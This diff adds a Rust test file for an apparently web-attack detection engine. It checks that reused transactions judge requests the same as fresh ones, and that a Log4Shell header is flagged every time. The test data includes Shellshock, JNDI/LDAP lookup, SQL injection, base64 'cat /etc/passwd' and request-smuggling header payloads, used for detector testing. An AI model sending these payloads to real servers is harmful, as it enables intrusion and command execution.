@@ -1,0 +1,62 @@
+//! A transaction that has served before judges as a new one does: what it remembers saves work, never a finding.
+
+use proptest::prelude::*;
+use sidewatch::http::Messages;
+use sidewatch::{Engine, Transaction};
+
+/// Fields that tell nothing, fields that tell something, and fields that are odd; some differ in a byte or in case.
+const FIELDS: &[&str] = &[
+    "Accept: text/html,*/*;q=0.8",
+    "accept: text/html,*/*;q=0.8",
+    "Accept: text/html,*/*;q=0.9",
+    "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
+    "User-Agent: () { :; }; /bin/id",
+    "X-Api: ${jndi:ldap://a.example/x}",
+    "X-Api: ${jndi:ldap://b.example/x}",
+    "Cookie: sid=41; lang=de",
+    "Cookie: sid=41; sid=42",
+    "Cookie: q=%5B%7B%22query%22%3A%22%7Ba%7D%22%7D%5D",
+    "Cookie: id=1' or 7=7-- ",
+    "Authorization: Basic ???",
+    "Referer: https://shop.example/?page=1",
+    "Referer: https://shop.example/?page=1' union select 1,2--",
+    "X-Long: aWQ7Y2F0IC9ldGMvcGFzc3dkO2lkO2lkO2lkO2lk",
+    "Transfer-Encoding: chunked, identity",
+    "Content-Length: 0",
+];
+
+fn judged(tx: &mut Transaction, request: &[u8]) -> String {
+    tx.reset();
+    tx.request_bytes(request);
+    tx.request_end();
+    let mut out = Vec::new();
+    tx.write_json(&mut out);
+    String::from_utf8(out).expect("JSON is text")
+}
+
+proptest! {
+    #[test]
+    fn what_came_before_changes_nothing(
+        requests in prop::collection::vec(prop::collection::vec(prop::sample::select(FIELDS), 0..8), 1..12),
+    ) {
+        let engine = Engine::default();
+        let mut served = engine.transaction();
+        for fields in &requests {
+            let request = format!("GET /a?b=c HTTP/1.1\r\nHost: a.example\r\n{}\r\n\r\n", fields.join("\r\n"));
+            let (again, new) = (judged(&mut served, request.as_bytes()), judged(&mut engine.transaction(), request.as_bytes()));
+            prop_assert_eq!(again, new, "{}", request);
+        }
+    }
+}
+
+#[test]
+fn an_attack_in_a_field_is_found_each_time() {
+    let mut tx = Engine::default().transaction();
+    // Twice in one request: the second adds nothing to the list, and is no reason to pass it over in the next request.
+    let field = "X-Api: ${jndi:ldap://a.example/x}\r\n";
+    for _ in 0..3 {
+        let request = format!("GET / HTTP/1.1\r\nHost: a.example\r\n{field}{field}\r\n");
+        let event = judged(&mut tx, request.as_bytes());
+        assert!(event.contains("log4shell") && tx.findings().len() == 1, "{event}");
+    }
+}
